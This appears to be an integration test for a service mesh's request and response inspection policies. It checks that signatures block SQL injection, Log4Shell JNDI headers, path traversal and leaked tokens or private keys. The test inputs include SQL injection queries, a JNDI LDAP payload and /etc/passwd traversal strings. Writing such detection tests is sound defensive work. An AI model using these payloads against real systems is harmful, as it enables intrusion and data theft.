# SPDX-License-Identifier: Apache-2.0
"""Signatures in requests and responses, with nginx and curl: the starter set and a policy of one's own, enforced; bodies cut
anywhere; secrets that are on their way out; a policy that changes, and one that can't be had."""

import fcntl
import hashlib
import json
import random
import socket
import struct
import subprocess
import termios

import lab

lab.enter()
mesh = lab.Lab()
client, web = mesh.pod("client", "10.1.0.1"), mesh.pod("web", "10.1.0.10")
WEB = "10.96.0.10"

# Files as they are, uploads (PUT) into a folder, and an answer to any POST: through a proxy, which reads all of the body first.
folder = mesh.folder / "nginx"
(folder / "www" / "up").mkdir(parents=True)
lab.write(folder / "nginx.conf", f"""
user root; daemon off; worker_processes 1; pid {folder}/pid; error_log {folder}/error.log;
events {{ worker_connections 256; }}
http {{
  access_log {folder}/access.log; client_max_body_size 64m; client_body_temp_path {folder}/bodies; proxy_temp_path {folder};
  fastcgi_temp_path {folder}; uwsgi_temp_path {folder}; scgi_temp_path {folder};
  server {{
    listen 8080; root {folder}/www;
    location / {{ index index.html; }}
    location /up/ {{ dav_methods PUT; }}
    location /post {{ proxy_pass http://127.0.0.1:8081; }}
    location /leaky-head {{ add_header X-Token "ghp_{'a' * 36}"; return 200 "harmless\\n"; }}
  }}
  server {{ listen 127.0.0.1:8081; return 200 "taken\\n"; }}
}}""")
lab.write(folder / "www" / "index.html", "web\n")
KEY = b"-----BEGIN RSA PRIVATE KEY-----\n"
(folder / "www" / "key").write_bytes(b"x" * 100 + KEY)
(folder / "www" / "late").write_bytes(b"x" * (3 << 20) + KEY + b"y" * (1 << 20))
# Random bytes that have no signature of the policies in them, nor would after a few bytes more.
HARMLESS = random.Random(3).randbytes(5 << 20)
(folder / "www" / "harmless").write_bytes(HARMLESS)
SUM = hashlib.sha256(HARMLESS).hexdigest()
web.start("nginx", "-e", folder / "error.log", "-c", folder / "nginx.conf")
lab.wait_until("nginx listens", lambda: web.run("ss", "-ltnH", "sport = :8080"))


def own(*signatures, name="own", **spec):
    return {"apiVersion": "weft.dev/v1", "kind": "InspectionPolicy", "metadata": {"name": name},
            "spec": {"targetRefs": [{"kind": "Service", "name": "web"}], "bodyBytes": 8 << 20, "signatures": list(signatures), **spec}}


FORBIDDEN = {"name": "forbidden", "part": "Body", "literal": "forbidden-words"}
TOKEN = {"name": "token", "of": "Response", "part": "Header", "header": "x-token", "regex": r"\bghp_[0-9a-z]{36}"}
NOTED = {"name": "noted", "part": "Target", "literal": "note-me", "action": "Log"}
COUNTED = {"name": "counted", "part": "Target", "literal": "count-me", "action": "Count"}
starter = (lab.ROOT / "share" / "inspection-starter.yaml").read_text()
assert starter.count("mode: DryRun") == 1
(mesh.registry / "starter.yaml").write_text(starter.replace("mode: DryRun", "mode: Enforce"))
mesh.put("web.yaml", mesh.service("web", WEB, app_protocol="http"), mesh.slice("web", [web]))
mesh.put("own.yaml", own(FORBIDDEN, TOKEN, NOTED, COUNTED))
mesh.configure(snat={"addresses": ["10.9.0.1"]}, workers={"cores": [0, 1]})
mesh.start_weftd()
log = mesh.folder / "requests"
lab.Process([lab.BUILD / "weftctl", "--socket", mesh.socket, "--json", "access"], log)
lab.wait_until("requests are followed", lambda: log.read_text().endswith("\n"))
taken = mesh.folder / "taken"
asked = 0  # requests, each of which has a record


def records():
    return [row for row in map(json.loads, log.read_text().split("\n")[:-1]) if "signature" in row]


def curl(path, *words):
    """@returns status (0: none), and curl's exit code; the body is in `taken`"""
    global asked
    taken.unlink(missing_ok=True)
    asked += 1
    done = subprocess.run(client.inside("curl", "-sS", "-m", "60", "-g", "--path-as-is", "-o", taken, "-w", "%{http_code}", *words,
                                        f"http://{WEB}{path}"), capture_output=True, text=True)
    return int(done.stdout), done.returncode


def told():
    """The record of what was asked last."""
    return lab.wait_until("the request is told of", lambda: (rows := records()) and len(rows) >= asked and rows[-1])


def denied(signature, path, *words, status=403):
    got = curl(path, *words)
    assert got == (status, 0), (signature, path, got)
    record = told()
    assert (record["flags"], record["signature"], record["status"]) == ("SIG", signature, status), record
    print(f"{signature}: {record['method']} {path}")


def passes(path, *words):
    got = curl(path, *words)
    assert got == (200, 0), (path, got)


def counted(name):
    return next(row["count"] for row in mesh.ctl("show", "http")["counters"] if row["name"] == name)


# Heads.
passes("/")
assert taken.read_text() == "web\n"
passes("/?q=select+a+union+from+the+list")
denied("istio-system/starter sqli-union-target", "/?id=1+UNION+SELECT+name,password+FROM+users")
denied("istio-system/starter sqli-union-target", "/?id=1%2520union%2520all%2520select%25201")
denied("istio-system/starter jndi-header", "/", "-H", "X-Api-Version: ${jndi:ldap://203.0.113.1/a}")
denied("istio-system/starter traversal-up", "/?file=../../../../var/log/messages")
denied("istio-system/starter traversal-file", "/?file=/etc/passwd")
assert curl("/a/../../../etc/passwd")[0] in (400, 403), "a path that leaves the root"

# Bodies: of a length and in chunks, in one piece and cut within the signature.
denied("default/own forbidden", "/post", "--data-binary", "some forbidden-words here")
denied("default/own forbidden", "/post", "-H", "Transfer-Encoding: chunked", "--data-binary", "some forbidden-words here")
denied("default/own forbidden", "/post", "--data", "a=%66orbidden-words")
passes("/post", "--data-binary", "some forbidden words here")


def say(connection, text):
    """Returns once weft has it: what is said next comes in a segment of its own."""
    connection.sendall(text)
    lab.wait_until("it is acknowledged", lambda: struct.unpack("i", fcntl.ioctl(connection, termios.TIOCOUTQ, bytes(4)))[0] == 0)


def in_parts(*parts):
    """@returns the first line of the answer"""
    global asked
    asked += 1
    with client.entered():
        connection = socket.create_connection((WEB, 80), 30)
    with connection:
        connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for part in parts:
            say(connection, part)
        with connection.makefile("rb") as answer:
            return answer.readline().decode().strip()


def chunk(text):
    return b"%x\r\n%s\r\n" % (len(text), text)


HEAD = b"POST /post HTTP/1.1\r\nHost: web\r\n"
for cut in (1, 9, 14):
    one, two = b"some forbidden-words"[:5 + cut], b"some forbidden-words"[5 + cut:]
    answer = in_parts(HEAD + b"Content-Length: 20\r\n\r\n", one, two)
    assert answer == "HTTP/1.1 403 Forbidden", (cut, answer)
    answer = in_parts(HEAD + b"Transfer-Encoding: chunked\r\n\r\n", chunk(one), chunk(two) + b"0\r\n\r\n")
    assert answer == "HTTP/1.1 403 Forbidden", (cut, answer)
    told()
    assert [row["signature"] for row in records()[-2:]] == ["default/own forbidden"] * 2, records()[-2:]
assert in_parts(HEAD + b"Content-Length: 20\r\n\r\n", b"some forbidden", b"_words") == "HTTP/1.1 200 OK"

# What has nothing in it passes as it is, in both directions.
upload = mesh.folder / "upload"
upload.write_bytes(HARMLESS)
for how in ((), ("-H", "Transfer-Encoding: chunked")):
    got = curl("/up/harmless", "-T", upload, "-H", "Expect:", *how)
    assert got[0] in (201, 204) and got[1] == 0, got
    assert hashlib.sha256((folder / "www" / "up" / "harmless").read_bytes()).hexdigest() == SUM, "what nginx got"
passes("/harmless")
assert hashlib.sha256(taken.read_bytes()).hexdigest() == SUM, "what curl got"

# Responses.
denied("istio-system/starter leak-private-key", "/key", status=502)
assert KEY.strip() not in taken.read_bytes()
denied("default/own token", "/leaky-head", status=502)
status, code = curl("/late")
assert status == 200 and code != 0, (status, code, "the head had gone, and the rest must not look whole")
got = taken.read_bytes()
assert len(got) <= (3 << 20) + len(KEY) and b"PRIVATE KEY" not in got, len(got)
record = told()
assert "SIG" in record["flags"] and record["signature"] == "istio-system/starter leak-private-key", record
print(f"a late secret: the connection was cut after {len(got)} bytes, curl said {code}, flags {record['flags']}")
assert counted("denied_responses") == 3, counted("denied_responses")

# What is noted and counted passes.
noted = counted("signatures_noted")
passes("/?note-me")
assert told()["signature"] == "default/own noted" and told()["flags"] == "-", told()
passes("/?count-me")
assert told()["signature"] == "", told()
assert counted("signatures_noted") == noted + 2

# What an operator sees of it: what a request would meet, which counts nothing, and what was found.
def found(signature):
    policy, _, name = signature.partition(" ")
    return mesh.metric("weft_signatures_found_total", policy=policy, signature=name)


hits = {name: found(name) for name in ("default/own noted", "default/own counted", "default/own forbidden",
                                       "istio-system/starter leak-private-key", "istio-system/starter sqli-union-target")}
assert list(hits.values()) == [1, 1, 9, 2, 2], hits
asked_of = mesh.ctl("where", "GET", f"http://{WEB}/?id=1+union+select+1&note-me")
assert asked_of["inspected_by"] == "default/own (Enforce), istio-system/starter (Enforce)", asked_of
assert (asked_of["status"], asked_of["flags"]) == (403, "SIG"), asked_of
assert {(row["signature"], row["outcome"]) for row in asked_of["signatures"]} == {
    ("default/own noted", "noted in the access record"), ("istio-system/starter sqli-union-target", "denied with 403")}, asked_of
asked_of = mesh.ctl("where", "GET", f"http://{WEB}/", "header", "x-api: ${jndi:ldap://203.0.113.1/a}")
assert [row["signature"] for row in asked_of["signatures"]] == ["istio-system/starter jndi-header"], asked_of
assert "status" not in mesh.ctl("where", "GET", f"http://{WEB}/?note-me")
assert hits == {name: found(name) for name in hits}, "a question is no request"
print(mesh.text("where", "GET", f"http://{WEB}/?id=1+union+select+1&note-me"))
row, = mesh.ctl("show", "protections", "web")
assert row["inspected_by"] == "default/own (Enforce), istio-system/starter (Enforce)", row
assert row["signatures_found_most"].startswith("default/own forbidden 9, ") and row["signatures_found"] == sum(
    value for (family, _), value in mesh.metrics().items() if family == "weft_signatures_found_total"), row
print(mesh.text("show", "protections", "web"))
assert mesh.metric("weft_inspection_sets") == 1

# A policy that changes.
mesh.update("own.yaml", own({"name": "other", "part": "Body", "literal": "other-words"}))
passes("/post", "--data-binary", "some forbidden-words here")
denied("default/own other", "/post", "--data-binary", "other-words")
passes("/")

# One that can't be had is told by file, line and name, and what was in force stays.
epoch = mesh.epoch()
mesh.put("own.yaml", own({"name": "broken", "part": "Body", "regex": "a(b"}))
message = lab.wait_until("the refusal is told", lambda: [
    error for error in mesh.ctl("show", "snapshot")["errors"] if "broken" in error])[0]
print(message)
line = next(n for n, text in enumerate((mesh.registry / "own.yaml").read_text().split("\n"), 1) if '"regex"' in text)
assert f"own.yaml:{line}: spec.signatures[0].regex: signature \"broken\": " in message, (line, message)
assert mesh.epoch() == epoch
denied("default/own other", "/post", "--data-binary", "other-words")
passes("/post", "--data-binary", "some forbidden-words here")

# Without any, all passes.
(mesh.registry / "starter.yaml").unlink()
mesh.put("own.yaml")
lab.wait_until("nobody inspects", lambda: curl("/?id=1+UNION+SELECT+1") == (200, 0))
passes("/key")
assert taken.read_bytes().endswith(KEY)
mesh.check_books()
